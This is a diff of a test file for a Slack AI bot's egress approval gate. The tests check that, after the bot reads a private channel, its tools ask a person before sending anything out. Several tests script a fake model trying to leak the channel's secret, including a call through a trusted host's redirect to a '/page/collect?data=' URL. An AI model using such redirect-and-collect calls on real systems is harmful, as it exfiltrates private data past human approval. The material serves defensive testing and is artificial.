@@ -19,7 +19,7 @@ from typing import Any
 import aiohttp
 import pytest
 
-from tests.conftest import Bot, make_settings
+from tests.conftest import Bot, MakeBot
 from tests.fakes.openai_server import Reply, ToolCall
 from tests.fakes.search import FakeSearxng
 from tests.fakes.slack_requests import command_body, dm, mention
@@ -74,11 +74,8 @@ def mcp_file(tmp_path: Path, state: Path) -> Path:
     return path
 
 
-async def start_bot(slack, llm, db_url, tmp_path: Path, out: Outside, **env: str) -> Bot:
-    settings = make_settings(
-        slack,
-        llm,
-        db_url,
+async def start_bot(make_bot: MakeBot, tmp_path: Path, out: Outside, **env: str) -> Bot:
+    bot = await make_bot(
         TOOL_HTTP_ALLOW_HOSTS=f"127.0.0.1:{out.web.port},127.0.0.1:{out.elsewhere.port}",
         SEARXNG_URL=out.search.url,
         OPEN_METEO_URL=out.weather.url,
@@ -87,8 +84,7 @@ async def start_bot(slack, llm, db_url, tmp_path: Path, out: Outside, **env: str
         EGRESS_APPROVAL_SECONDS="0.5",
         **env,
     )
-    bot = await Bot(settings).start()
-    assert await bot.rt.mcp.ready(60), "the fake MCP servers did not connect"
+    assert await bot.rt.mcp.ready(120), "the fake MCP servers did not connect"
     return bot
 
 
@@ -132,91 +128,93 @@ async def refused_without_a_yes(
 
 @pytest.mark.parametrize("kind", list(KINDS))
 async def test_private_read_then_each_tool_kind_asks_first(
-    slack, llm, db_url, tmp_path, outside, kind
+    slack,
+    llm,
+    tmp_path,
+    outside,
+    kind,
+    make_bot: MakeBot,
 ) -> None:
     private_leadership(slack)
     make_call, received = KINDS[kind]
-    bot = await start_bot(slack, llm, db_url, tmp_path, outside)
-    try:
-        llm.script(
-            Reply(tool_calls=[ToolCall("read_channel", {"channel": "#leadership"})]),
-            Reply(tool_calls=[make_call(outside)]),
-            Reply(content="Done."),
-        )
-        await bot.event(dm("catch me up on #leadership, then look it up", ts="1700002000.000100"))
-        await refused_without_a_yes(bot, slack, llm, outside, received)
-    finally:
-        await bot.close()
+    bot = await start_bot(make_bot, tmp_path, outside)
+    llm.script(
+        Reply(tool_calls=[ToolCall("read_channel", {"channel": "#leadership"})]),
+        Reply(tool_calls=[make_call(outside)]),
+        Reply(content="Done."),
+    )
+    await bot.event(dm("catch me up on #leadership, then look it up", ts="1700002000.000100"))
+    await refused_without_a_yes(bot, slack, llm, outside, received)
 
 
 @pytest.mark.parametrize("kind", list(KINDS))
 async def test_private_answer_then_later_turn_then_each_tool_kind_asks_first(
-    slack, llm, db_url, tmp_path, outside, kind
+    slack,
+    llm,
+    tmp_path,
+    outside,
+    kind,
+    make_bot: MakeBot,
 ) -> None:
     """/ask in a private channel answers with a secret; a follow-up in that answer's thread carries it."""
     private_leadership(slack)
     make_call, received = KINDS[kind]
-    bot = await start_bot(slack, llm, db_url, tmp_path, outside)
-    try:
-        llm.script(
-            Reply(tool_calls=[ToolCall("read_channel", {"channel": "#leadership"})]),
-            Reply(content=f"Summary: {SECRET}."),
-        )
-        await bot.post(
-            command_body("/ask", "what is new here?", channel="G1", channel_name="leadership"),
-            "application/x-www-form-urlencoded",
-        )
-        await bot.idle(60)
-        (answer,) = [m for m in slack.posted(channel="G1") if SECRET in json.dumps(m)]
-        assert slack.ephemerals == []  # reading the channel it is asked in needs nobody's approval
-        llm.script(Reply(tool_calls=[make_call(outside)]), Reply(content="Sent."))
-        await bot.event(
-            mention(
-                "<@UBOT> now send that along", channel="G1", thread_ts=answer["ts"], ts="1700002100.000100"
-            )
-        )
-        await refused_without_a_yes(bot, slack, llm, outside, received)
-        assert SECRET in json.dumps(llm.requests[-2]["messages"])  # the answer was in the history
-    finally:
-        await bot.close()
+    bot = await start_bot(make_bot, tmp_path, outside)
+    llm.script(
+        Reply(tool_calls=[ToolCall("read_channel", {"channel": "#leadership"})]),
+        Reply(content=f"Summary: {SECRET}."),
+    )
+    await bot.post(
+        command_body("/ask", "what is new here?", channel="G1", channel_name="leadership"),
+        "application/x-www-form-urlencoded",
+    )
+    await bot.idle(60)
+    (answer,) = [m for m in slack.posted(channel="G1") if SECRET in json.dumps(m)]
+    assert slack.ephemerals == []  # reading the channel it is asked in needs nobody's approval
+    llm.script(Reply(tool_calls=[make_call(outside)]), Reply(content="Sent."))
+    await bot.event(
+        mention("<@UBOT> now send that along", channel="G1", thread_ts=answer["ts"], ts="1700002100.000100")
+    )
+    await refused_without_a_yes(bot, slack, llm, outside, received)
+    assert SECRET in json.dumps(llm.requests[-2]["messages"])  # the answer was in the history
 
 
-async def test_a_trusted_mcp_server_is_not_asked_about(slack, llm, db_url, tmp_path, outside) -> None:
+async def test_a_trusted_mcp_server_is_not_asked_about(
+    slack, llm, tmp_path, outside, make_bot: MakeBot
+) -> None:
     private_leadership(slack)
-    bot = await start_bot(slack, llm, db_url, tmp_path, outside)
-    try:
-        llm.script(
-            Reply(tool_calls=[ToolCall("read_channel", {"channel": "#leadership"})]),
-            Reply(tool_calls=[ToolCall("vault__lookup_ticket", {"ticket_id": "T-1"})]),
-            Reply(content="Done."),
-        )
-        await bot.event(dm("catch me up on #leadership", ts="1700002200.000100"))
-        await bot.idle(60)
-        assert slack.ephemerals == []
-        assert (outside.mcp_state / "vault" / "looked_up.tsv").read_text().split() == ["T-1"]
-        assert "Printer on fire" in told_model(llm)
-    finally:
-        await bot.close()
+    bot = await start_bot(make_bot, tmp_path, outside)
+    llm.script(
+        Reply(tool_calls=[ToolCall("read_channel", {"channel": "#leadership"})]),
+        Reply(tool_calls=[ToolCall("vault__lookup_ticket", {"ticket_id": "T-1"})]),
+        Reply(content="Done."),
+    )
+    await bot.event(dm("catch me up on #leadership", ts="1700002200.000100"))
+    await bot.idle(60)
+    assert slack.ephemerals == []
+    assert (outside.mcp_state / "vault" / "looked_up.tsv").read_text().split() == ["T-1"]
+    assert "Printer on fire" in told_model(llm)
 
 
 async def test_a_redirect_out_of_the_trusted_set_is_a_new_decision(
-    slack, llm, db_url, tmp_path, outside
+    slack,
+    llm,
+    tmp_path,
+    outside,
+    make_bot: MakeBot,
 ) -> None:
     private_leadership(slack)
     web, elsewhere = outside.web, outside.elsewhere
-    bot = await start_bot(slack, llm, db_url, tmp_path, outside, EGRESS_TRUSTED_HOSTS=f"127.0.0.1:{web.port}")
-    try:
-        hop = f"{elsewhere.url}/page/collect?data={LEAK}"
-        llm.script(
-            Reply(tool_calls=[ToolCall("read_channel", {"channel": "#leadership"})]),
-            Reply(tool_calls=[ToolCall("call_api", {"url": f"{web.url}/redirect?to={hop}"})]),
-            Reply(content="Done."),
-        )
-        await bot.event(dm("catch me up on #leadership", ts="1700002300.000100"))
-        await refused_without_a_yes(bot, slack, llm, outside, lambda o: o.elsewhere.hits)
-        assert len(web.hits) == 1  # the trusted host was asked; the hop it pointed to was not
-    finally:
-        await bot.close()
+    bot = await start_bot(make_bot, tmp_path, outside, EGRESS_TRUSTED_HOSTS=f"127.0.0.1:{web.port}")
+    hop = f"{elsewhere.url}/page/collect?data={LEAK}"
+    llm.script(
+        Reply(tool_calls=[ToolCall("read_channel", {"channel": "#leadership"})]),
+        Reply(tool_calls=[ToolCall("call_api", {"url": f"{web.url}/redirect?to={hop}"})]),
+        Reply(content="Done."),
+    )
+    await bot.event(dm("catch me up on #leadership", ts="1700002300.000100"))
+    await refused_without_a_yes(bot, slack, llm, outside, lambda o: o.elsewhere.hits)
+    assert len(web.hits) == 1  # the trusted host was asked; the hop it pointed to was not
 
 
 async def test_a_307_never_resends_a_body_to_another_host(outside) -> None:
@@ -240,21 +238,20 @@ async def test_a_307_never_resends_a_body_to_another_host(outside) -> None:
     assert json.loads(fetched.body)["received"] == len(LEAK) and web.received == [("POST", LEAK.encode())]
 
 
-async def test_arguments_nested_100000_deep_end_in_an_answer(slack, llm, db_url, tmp_path, outside) -> None:
-    bot = await start_bot(slack, llm, db_url, tmp_path, outside)
-    try:
-        deep = "[" * 100_000 + "]" * 100_000
-        llm.script(
-            Reply(tool_calls=[ToolCall("call_api", f'{{"url": {deep}}}')]),
-            Reply(content="I could not call that."),
-        )
-        await bot.event(dm("fetch it", ts="1700002400.000100"))
-        await bot.idle(60)
-        assert "nested more than" in told_model(llm)
-        assert "I could not call that." in json.dumps(slack.posted(channel="D1"))
-        assert outside.web.hits == []
-    finally:
-        await bot.close()
+async def test_arguments_nested_100000_deep_end_in_an_answer(
+    slack, llm, tmp_path, outside, make_bot: MakeBot
+) -> None:
+    bot = await start_bot(make_bot, tmp_path, outside)
+    deep = "[" * 100_000 + "]" * 100_000
+    llm.script(
+        Reply(tool_calls=[ToolCall("call_api", f'{{"url": {deep}}}')]),
+        Reply(content="I could not call that."),
+    )
+    await bot.event(dm("fetch it", ts="1700002400.000100"))
+    await bot.idle(60)
+    assert "nested more than" in told_model(llm)
+    assert "I could not call that." in json.dumps(slack.posted(channel="D1"))
+    assert outside.web.hits == []
 
 
 # -- every registered tool passes the gate --------------------------------------------------------
@@ -287,35 +284,34 @@ class Asked:
         return ApprovalDecision("denied", by="U1")
 
 
-async def test_every_registered_tool_passes_the_gate(slack, llm, db_url, tmp_path, outside) -> None:
+async def test_every_registered_tool_passes_the_gate(
+    slack, llm, tmp_path, outside, make_bot: MakeBot
+) -> None:
     """Each tool the model can be offered (ours, the workflows, MCP's) meets the egress rule before
     it runs: after a private read, each one that sends its arguments anywhere is asked about and
     sends nothing; the rest declare that they send nothing. A tool added without an entry in
     SAMPLES fails here until someone decides what it sends where."""
-    bot = await start_bot(slack, llm, db_url, tmp_path, outside)
-    try:
-        registry = await bot.rt.tools()
-        assert set(registry.names) == set(SAMPLES), "a tool was added or removed: say what it sends where"
-        for name in registry.names:
-            found = registry.get(name)
-            assert found is not None
-            ctx = bot.rt.tool_context(await _trace(), team="T1", user="U1", channel="D1", approver=Asked())
-            ctx.flow = DataFlow(private_sources=["slack:G1"])
-            approver = ctx.approver
-            assert isinstance(approver, Asked)
-            arguments, leaves = SAMPLES[name]
-            before = (len(outside.search.queries), len(outside.weather.requests), len(outside.mcp_calls()))
-            result = await registry.run(name, json.dumps(arguments), ctx)
-            after = (len(outside.search.queries), len(outside.weather.requests), len(outside.mcp_calls()))
-            if leaves:
-                assert approver.asked, f"{name} sends data out but nobody was asked"
-                assert not result.ok and "Not sent" in (result.error or ""), name
-                assert after == before, f"{name} sent something before approval"
-            else:
-                assert approver.asked == [] and gate.destinations(found, ctx, arguments) == [], name
-            assert ctx.trace.steps[-1].name == name  # type: ignore[attr-defined]  # traced by the gate
-    finally:
-        await bot.close()
+    bot = await start_bot(make_bot, tmp_path, outside)
+    registry = await bot.rt.tools()
+    assert set(registry.names) == set(SAMPLES), "a tool was added or removed: say what it sends where"
+    for name in registry.names:
+        found = registry.get(name)
+        assert found is not None
+        ctx = bot.rt.tool_context(await _trace(), team="T1", user="U1", channel="D1", approver=Asked())
+        ctx.flow = DataFlow(private_sources=["slack:G1"])
+        approver = ctx.approver
+        assert isinstance(approver, Asked)
+        arguments, leaves = SAMPLES[name]
+        before = (len(outside.search.queries), len(outside.weather.requests), len(outside.mcp_calls()))
+        result = await registry.run(name, json.dumps(arguments), ctx)
+        after = (len(outside.search.queries), len(outside.weather.requests), len(outside.mcp_calls()))
+        if leaves:
+            assert approver.asked, f"{name} sends data out but nobody was asked"
+            assert not result.ok and "Not sent" in (result.error or ""), name
+            assert after == before, f"{name} sent something before approval"
+        else:
+            assert approver.asked == [] and gate.destinations(found, ctx, arguments) == [], name
+        assert ctx.trace.steps[-1].name == name  # type: ignore[attr-defined]  # traced by the gate
 
 
 async def _trace():
@@ -368,29 +364,28 @@ async def test_the_gate_waits_for_no_one_when_nothing_private_was_read(outside) 
 
 
 async def test_an_answer_recovered_after_a_crash_keeps_carrying_what_it_drew_on(
-    slack, llm, db_url, tmp_path, outside
+    slack,
+    llm,
+    tmp_path,
+    outside,
+    make_bot: MakeBot,
 ) -> None:
     """A redo finds the dead attempt's answer already shown in a private channel: what that attempt
     read died with it, so the stored answer counts as the channel's own, and a follow-up asks."""
     from bot.slack.conversation import Turn, _remember_shown
 
     private_leadership(slack)
-    bot = await start_bot(slack, llm, db_url, tmp_path, outside)
-    try:
-        root = "1700002500.000100"
-        turn = Turn("T1", "G1", "U1", "<@UBOT> what's new?", root, root, root, "mention")
-        convo = await bot.rt.db.conversations.get_or_create("T1", "G1", root)
-        assert convo.id is not None
-        await bot.rt.db.conversations.add_messages(convo.id, [{"role": "user", "content": "what's new?"}])
-        await _remember_shown(bot.rt, turn, f"Summary: {SECRET}.")
-        assert (await bot.rt.db.conversations.history(convo.id))[-1]["sources"] == ["slack:G1"]
-        make_call, received = KINDS["built-in call_api"]
-        llm.script(Reply(tool_calls=[make_call(outside)]), Reply(content="Sent."))
-        await bot.event(
-            mention("<@UBOT> send that along", channel="G1", thread_ts=root, ts="1700002600.000100")
-        )
-        await refused_without_a_yes(bot, slack, llm, outside, received)
-        sent = llm.requests[-2]["messages"]
-        assert SECRET in json.dumps(sent) and all("sources" not in m for m in sent)  # ours, not the API's
-    finally:
-        await bot.close()
+    bot = await start_bot(make_bot, tmp_path, outside)
+    root = "1700002500.000100"
+    turn = Turn("T1", "G1", "U1", "<@UBOT> what's new?", root, root, root, "mention")
+    convo = await bot.rt.db.conversations.get_or_create("T1", "G1", root)
+    assert convo.id is not None
+    await bot.rt.db.conversations.add_messages(convo.id, [{"role": "user", "content": "what's new?"}])
+    await _remember_shown(bot.rt, turn, f"Summary: {SECRET}.")
+    assert (await bot.rt.db.conversations.history(convo.id))[-1]["sources"] == ["slack:G1"]
+    make_call, received = KINDS["built-in call_api"]
+    llm.script(Reply(tool_calls=[make_call(outside)]), Reply(content="Sent."))
+    await bot.event(mention("<@UBOT> send that along", channel="G1", thread_ts=root, ts="1700002600.000100"))
+    await refused_without_a_yes(bot, slack, llm, outside, received)
+    sent = llm.requests[-2]["messages"]
+    assert SECRET in json.dumps(sent) and all("sources" not in m for m in sent)  # ours, not the API's
